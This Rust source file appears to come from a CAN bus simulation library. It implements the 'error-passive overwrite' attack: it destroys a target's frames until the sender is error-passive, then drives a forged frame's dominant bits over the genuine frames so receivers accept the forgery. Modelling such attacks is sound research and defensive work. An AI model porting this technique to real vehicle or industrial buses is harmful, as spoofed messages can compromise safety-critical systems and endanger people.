//! Overwriting the frame of an error-passive sender: it sees the error, but its passive flag is
//! recessive and cannot stop the forged frame, which the receivers accept. The
//! toolkit canhack has this attack.

use waywarden_can::bits::{FdVariant, Level, expand};
use waywarden_can::node::BusState;
use waywarden_can::timing::BitTiming;
use waywarden_can::{Format, Frame, Id};

use super::bus_off::OneShot;
use super::{Interferer, InterfererError, Onset, Surroundings, drive_dominant, timed};
use crate::bitwise::{BitMoment, Strikes};
use crate::confinement::ErrorCounters;

/// Destroys frames with the target's identifier until their sender is error-passive, then drives
/// the dominant bits of a forged frame over them.
///
/// It works where the forged frame is the first to differ by a dominant bit; other frames of the
/// target it lets pass.
#[derive(Clone, Debug)]
pub struct ErrorPassiveOverwrite {
    forged: Frame,
    times: u64,
    overwritten: u64,
    preparation: OneShot,
    bus: Option<(BitTiming, FdVariant)>,
}

impl ErrorPassiveOverwrite {
    /// Overwrites `times` frames with the forged one, whose identifier is the target.
    #[must_use]
    pub fn new(forged: Frame, times: u64) -> Self {
        let preparation = OneShot::default();
        ErrorPassiveOverwrite {
            forged,
            times,
            overwritten: 0,
            preparation,
            bus: None,
        }
    }

    /// Returns how many frames were overwritten.
    #[must_use]
    pub fn overwritten(&self) -> u64 {
        self.overwritten
    }

    fn is_target(&self, id: Id) -> bool {
        self.overwritten < self.times && id == self.forged.id()
    }

    fn overwrite(&mut self, frame: &Frame, moment: &BitMoment<'_>, strikes: &mut Strikes) {
        let Some((timing, variant)) = &self.bus else {
            return;
        };
        let (forged, genuine) = (expand(&self.forged, *variant), expand(frame, *variant));
        let mut pairs = forged.bits().iter().zip(genuine.bits());
        let differs = pairs.find(|(forged, genuine)| forged.level != genuine.level);
        if differs.is_none_or(|(forged, _)| forged.level == Level::Recessive) {
            return;
        }
        let dominant = timed(&forged, timing)
            .filter(|(level, _, _)| *level == Level::Dominant)
            .map(|(_, from, until)| (from, until));
        drive_dominant(dominant, moment, strikes);
        self.overwritten += 1;
    }
}

impl Interferer for ErrorPassiveOverwrite {
    fn name(&self) -> &str {
        "error-passive overwrite"
    }

    fn begin(&mut self, surroundings: Surroundings<'_>) -> Result<(), InterfererError> {
        if self.forged.format() == Format::Remote {
            return Err(InterfererError::ForgedRemote {
                forged: self.forged,
            });
        }
        self.bus = Some((*surroundings.timing, surroundings.variant));
        Ok(())
    }

    fn wants(&mut self, onset: &Onset<'_>) -> bool {
        onset.frame.is_some_and(|frame| self.is_target(frame.id()))
    }

    fn strike(&mut self, moment: &BitMoment<'_>, strikes: &mut Strikes) {
        let Some(frame) = moment.frame() else { return };
        if !self.is_target(frame.id()) {
            return;
        }
        let state = moment.counters(moment.pilot).map(ErrorCounters::state);
        if state != Some(BusState::Passive) {
            self.preparation.strike(moment, strikes);
        } else if moment.stage_bit == 0 {
            self.overwrite(frame, moment, strikes);
        }
    }
}
